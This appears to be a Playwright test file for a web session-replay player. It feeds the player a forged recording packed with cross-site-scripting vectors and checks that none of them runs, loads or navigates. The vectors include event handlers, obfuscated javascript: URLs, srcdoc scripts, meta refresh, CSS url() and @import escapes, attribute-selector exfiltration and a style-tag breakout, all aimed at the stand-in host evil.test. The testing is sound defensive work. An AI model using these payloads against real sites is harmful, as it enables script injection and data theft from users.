/**
 * Every way that we know in which markup runs, loads, navigates, submits, focuses or names what is not its own, in one forged
 * recording: as it begins, and by attributes that come later.
 */

import { expect, open, test } from './player-page.ts';
import { type ForgedNode, forge, mutation, onStage, seek } from './stage-page.ts';

const evil = 'http://evil.test/';
const run = 'parent.hacked = 1; top.hacked = 1';

/** Attributes that do something somewhere. Each element below gets all of them. */
const attributes: Record<string, string> = {
  onload: run,
  onerror: run,
  OnClick: run,
  onfocus: run,
  ontoggle: run,
  onbegin: run,
  onanimationstart: run,
  onbeforetoggle: run,
  src: evil,
  srcset: `${evil} 1x`,
  imagesrcset: `${evil} 1x`,
  srcdoc: `<script>${run}</script>`,
  href: `java\tscript:${run}`,
  'xlink:href': ` \u0001javascript:${run}`,
  'xml:base': `javascript:${run}//`,
  data: evil,
  poster: evil,
  background: evil,
  action: `javascript:${run}`,
  formaction: `vbscript:${run}`,
  formtarget: '_top',
  target: '_top',
  ping: evil,
  manifest: evil,
  codebase: evil,
  archive: evil,
  classid: evil,
  longdesc: evil,
  profile: evil,
  cite: evil,
  icon: evil,
  dynsrc: evil,
  lowsrc: evil,
  attributionsrc: evil,
  rel: 'stylesheet preload prefetch preconnect dns-prefetch modulepreload manifest icon prerender import',
  as: 'script',
  blocking: 'render',
  'http-equiv': 'refresh',
  content: `0;url=${evil}`,
  charset: 'utf-7',
  autofocus: '',
  autoplay: '',
  sandbox: 'allow-scripts allow-top-navigation allow-popups',
  allow: 'camera',
  csp: "script-src 'unsafe-inline'",
  nonce: 'x',
  is: 'domreel-player',
  download: '',
  popover: 'auto',
  accesskey: 'x',
  contenteditable: 'true',
  shadowrootmode: 'open',
  attributeName: 'href',
  to: `javascript:${run}`,
  values: `javascript:${run};javascript:${run}`,
  from: `javascript:${run}`,
  by: 'onload',
  begin: '0s',
  dur: '1s',
  fill: `url(${evil}#a)`,
  filter: `url(${evil}#a)`,
  mask: `url(${evil}#a)`,
  'clip-path': `url(${evil}#a)`,
  'marker-end': `url(${evil}#a)`,
  cursor: `url(${evil}), auto`,
  actiontype: 'statusline#x',
  style: [
    `background: url(${evil})`,
    `background: U\\52L("${evil}")`,
    `background: image-set("${evil}" 1x)`,
    `background: -webkit-image-set(url(${evil}) 1x)`,
    `background: -webkit-cross-fade(url(${evil}), url(${evil}), 50%)`,
    `background: src("${evil}")`,
    `background: attr(src url)`,
    `--u: url(${evil})`,
    'list-style: var(--u)',
    `cursor: url(${evil}), auto`,
    `-webkit-mask: url(${evil}#m)`,
    `mask-border: url(${evil})`,
    `filter: url(${evil}#f)`,
    `clip-path: url(${evil}#c)`,
    `shape-outside: url(${evil})`,
    `content: url(${evil})`,
    `behavior: url(${evil})`,
    `-moz-binding: url(${evil})`,
    'position: fixed; inset: -1000px; z-index: 2147483647',
  ].join(';'),
};

const names = [
  ...[
    'script',
    'SCRIPT',
    'iframe',
    'frame',
    'object',
    'embed',
    'applet',
    'portal',
    'fencedframe',
    'meta',
    'base',
    'link',
  ],
  ...[
    'form',
    'button',
    'input',
    'textarea',
    'select',
    'a',
    'area',
    'img',
    'image',
    'picture',
    'source',
    'video',
    'audio',
  ],
  ...['track', 'body', 'html', 'head', 'table', 'td', 'template', 'noscript', 'plaintext', 'xmp', 'listing', 'noembed'],
  ...[
    'noframes',
    'marquee',
    'bgsound',
    'isindex',
    'keygen',
    'menuitem',
    'dialog',
    'details',
    'slot',
    'selectedcontent',
  ],
  ...['domreel-player', 'x-embedder', 'style', 'title', 'canvas', 'math', 'svg'],
  ...[
    'svg|svg',
    'svg|script',
    'svg|a',
    'svg|use',
    'svg|image',
    'svg|feImage',
    'svg|foreignObject',
    'svg|animate',
    'svg|set',
  ],
  ...[
    'svg|animateMotion',
    'svg|mpath',
    'svg|handler',
    'svg|style',
    'svg|video',
    'svg|iframe',
    'svg|discard',
    'svg|textPath',
  ],
  ...[
    'math|math',
    'math|maction',
    'math|mi',
    'math|annotation-xml',
    'http://other.test/|script',
    'http://other.test/|iframe',
  ],
];

const sheets = [
  `@import "${evil}"; @import url(${evil}) layer(x) supports(display: grid); @\\69mport "${evil}";`,
  `@font-face { font-family: f; src: url(${evil}) } * { font-family: f }`,
  `@document url(${evil}) { a { top: 0 } }`,
  `input[value^="a"] { background: url(${evil}a) } a:visited { background: url(${evil}v) }`,
  `@property --u { syntax: "<url>"; inherits: true; initial-value: url(${evil}) } p { background: var(--u) }`,
  `p::before { content: url(${evil}) } p::marker { content: "x" url(${evil}) } :root { cursor: url(${evil}), auto }`,
  `@keyframes k { to { background: url(${evil}) } } p { animation: k 1s infinite; background-image: paint(x) }`,
  `p { b\\61 ckground: u\\72 l(${evil}); background: url(/*x*/${evil}); background: url("${evil}\\\n") }`,
  `</style><script>${run}</script><style>`,
];

test('of all that markup can do on a page nothing is done on the stage', async ({ page }) => {
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  page.on('popup', (popup) => asked.push(`popup ${popup.url()}`));
  page.on('download', (download) => asked.push(`download ${download.url()}`));
  page.on('dialog', (dialog) => asked.push(`dialog ${dialog.message()}`));
  page.on('framenavigated', (frame) => asked.push(frame.url()));
  const bad = (name: string): ForgedNode => [name, { ...attributes }, run];
  const styles = sheets.map((text): ForgedNode => ['style', {}, text]);
  const pages: ForgedNode = ['html', {}, ['head', {}, ...styles], ['body', {}, ['p', {}, 'plain'], ...names.map(bad)]];
  const plain = names.map((name, index): ForgedNode => [name, { id: `later${index}` }, 'x']);
  const later: ForgedNode = ['html', {}, ['head', {}], ['body', {}, ['p', {}, 'plain'], ...plain]];
  // Document, html, head, body, p and its text come first; each element has one text.
  const changes = names.flatMap((_, index) =>
    Object.entries(attributes).map(([name, value]) => ({
      operation: 'set-attribute',
      node: 7 + index * 2,
      attribute: { name, value },
    })),
  );
  for (const bytes of [
    forge(pages, [[100, { event: 'hover', target: null }]]),
    forge(later, [[100, mutation(...changes)]]),
  ]) {
    await open(page, bytes, {});
    await seek(page, 0.1);
    await page.locator('domreel-player').click({ position: { x: 40, y: 40 } });
    for (const key of ['Tab', 'Enter', 'Tab', 'Enter', 'Alt+x']) await page.keyboard.press(key);
    const left = await onStage(page, (document) => {
      const found: string[] = [];
      for (const element of document.querySelectorAll('*')) {
        if (/^(script|applet|portal|fencedframe)$/i.test(element.localName)) found.push(element.localName);
        if (element.localName.includes('-') && element.shadowRoot) found.push(`${element.localName} is alive`);
        for (const { name, value } of element.attributes) {
          if (/^on|^(srcdoc|ping|autofocus|http-equiv|formaction|attributionsrc)$/i.test(name))
            found.push(`${element.localName} ${name}`);
          // What means nothing where it stands is left as it is.
          const isHtml = element.namespaceURI === 'http://www.w3.org/1999/xhtml';
          const isInert =
            /^(xml:base|cite|content|data-domreel-was-.*)$/.test(name) ||
            (isHtml && /^(values|to|from|by|mask|marker-end|filter|fill|cursor|clip-path|xlink:href)$/.test(name)) ||
            (name === 'href' && isHtml && !/^(a|area|link|base)$/.test(element.localName)) ||
            (name === 'poster' && !(isHtml && element.localName === 'video')) ||
            (name === 'src' && element.localName.includes('-')) ||
            (name === 'background' && !/^(body|table|t[dhr]|thead|tbody|tfoot)$/.test(element.localName)) ||
            (/^(values|to|from|by)$/.test(name) && !/^(animate|set|discard)/.test(element.localName));
          if (!isInert && /evil|script:/i.test(value.replaceAll(/\s/g, '')))
            found.push(`${element.localName} ${name}=${value}`);
        }
        if (/evil/.test((element as HTMLStyleElement).sheet ? (element.textContent ?? '') : ''))
          found.push(element.textContent ?? '');
      }
      if (document.activeElement !== document.body && document.activeElement !== null) found.push('focus');
      return found;
    });
    expect(left).toEqual([]);
    expect(asked.filter((url) => /evil|popup|download|dialog|script:/.test(url))).toEqual([]);
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
    expect(await onStage(page, (document) => document.querySelector('p')?.textContent)).toBe('plain');
  }
});
